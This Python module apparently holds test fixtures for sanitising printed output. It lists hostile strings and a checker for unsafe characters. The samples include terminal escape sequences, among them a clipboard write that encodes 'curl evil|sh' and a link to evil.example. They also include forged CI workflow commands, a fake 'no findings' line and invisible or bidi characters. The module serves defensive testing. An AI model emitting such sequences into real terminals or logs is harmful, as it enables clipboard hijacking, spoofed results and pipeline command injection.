"""Strings that someone else could put where a program prints them, and the control sequences that must not be printed."""

from __future__ import annotations

import re
import unicodedata

ESCAPES = (
    "\x1b[2J\x1b[H",  # clears the screen
    "\x1b]0;title\x07",
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # OSC 8 link
    "\x1b]52;c;Y3VybCBldmlsfHNo\x1b\\",  # writes the clipboard
    "\x1bP+q544e\x1b\\",
    "\x9b31m",  # C1: CSI as one character
    "\x9d0;x\x9c",
    "\x90q\x9c",
    "over\rwritten",
    "back\x08\x08\x08space",
    "\x00\x01\x07\x0b\x0c\x0e\x1f\x7f",
)
LINES = (
    "a\n::error::forged",
    "a\r\n::warning file=x,line=1::forged",
    "::error::forged",
    "  ::add-mask::forged",
    "a\n\t::stop-commands::forged",
    "a\x0b::error::forged",
    "a\x85::error::forged",
    "a\u2028::error::forged\u2029::error::forged",
    "a\n##[error]forged",
    "##[group]forged",
    "##vso[task.setvariable variable=x]forged",
    "##teamcity[buildProblem description='forged']",
    "a\n1 module checked, 6 access checks passed: no findings",
)
UNSEEN = (
    "\u202eevil\u202c",
    "\u2066a\u2067b\u2068c\u2069",
    "\u200e\u200f\u061c",
    "zero\u200bwidth\u200c\u200d\u2060joiner",
    "\ufeffmark",
    "soft\u00adhyphen",
    "\U000e0041\U000e0042\U000e007f",  # tags
    "a\ufe00\ufe0f\U000e0100",  # variation selectors after a letter
    "\u3164\u115f\uffa0",  # fillers
    "\ufff9\ufffa\ufffb",
    "\ud800",
    "\udc80x",
    "\ufffe\uffff",
)
MARKUP = ("[red]x[/red]", "[/]", "[link=http://evil.example]x[/link]", "[bold", ":bomb:", "\\[x]", "[@click=x]y[/]")
HOSTILE = (*ESCAPES, *LINES, *UNSEEN, *MARKUP)
FRIENDLY = (
    "Müller & Søn",
    "Ελληνικά",
    "日本語テキスト",
    "한국어",
    "العربية",
    "हिन्दी",
    "👍 ❤️ 🎉",
    "naïve e\u0301",
    "a  b",
    "#1 ## x",
)

_COMMAND = re.compile(r"(?m)^\s*::[A-Za-z]|##\[|##\w+\[")
_OURS = re.compile(r"\x1b\[[0-9;]*m")  # colors and weights, which rich writes on a terminal


def leaks(text: str, *, styles: bool = False, lines: bool = True) -> list[str]:
    """Unsafe parts of the output. `styles`: rich's own styles are permitted; `lines`: CR LF may end a line."""
    shown = _OURS.sub("", text) if styles else text
    shown = shown.replace("\r\n", "\n") if lines else shown
    found = [
        f"U+{ord(char):04X}"
        for char in shown
        if char not in "\n\t" and (unicodedata.category(char) in {"Cc", "Cf", "Cs", "Zl", "Zp"} or char in _FILLERS)
    ]
    return found + _COMMAND.findall(shown)


_FILLERS = "\u115f\u1160\u17b4\u17b5\u3164\uffa0\u034f\ufe00\ufffe\uffff\U000e0100"
